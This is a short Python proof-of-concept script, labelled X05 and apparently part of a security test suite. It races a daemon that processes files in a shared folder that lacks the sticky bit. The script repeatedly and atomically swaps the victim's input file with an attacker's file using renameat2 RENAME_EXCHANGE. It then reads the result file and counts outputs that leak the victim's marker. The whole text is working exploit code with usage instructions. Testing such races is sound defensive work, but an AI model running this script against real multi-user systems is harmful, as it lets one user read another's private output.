# X05: another user in a shared folder without the sticky bit: for
# SECONDS, exchange the victim's input NAME with a file of the attacker's
# (renameat2 RENAME_EXCHANGE, atomic), and read NAME's result whenever it
# is readable, noting any that holds the victim's MARKER.  The daemon
# scanned one file and opened the other, and gave the victim's output to
# the attacker as the owner of the result.  Prints "swaps: N",
# "results: N" (versions read) and "leaks: N".
#   python3 x05_swap.py DIR NAME MARKER SECONDS
import ctypes
import os
import sys
import time

d, name, marker, seconds = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
libc = ctypes.CDLL(None, use_errno=True)
renameat2 = libc.renameat2
AT_FDCWD, RENAME_EXCHANGE = -100, 2
mine = os.path.join(d, ".x05.mine.tmp")
job, res = os.path.join(d, name), os.path.join(d, name + ".result.json")
with open(mine, "w") as f:
    f.write('print("attacker")\n')
n = leaks = reads = 0
end = time.monotonic() + seconds
while time.monotonic() < end:
    if renameat2(AT_FDCWD, job.encode(), AT_FDCWD, mine.encode(), RENAME_EXCHANGE) == 0:
        n += 1
    try:
        with open(res) as f:
            reads += 1
            if marker in f.read():
                leaks += 1
    except OSError:
        pass
print(f"swaps: {n}")
print(f"results: {reads}")
print(f"leaks: {leaks}")
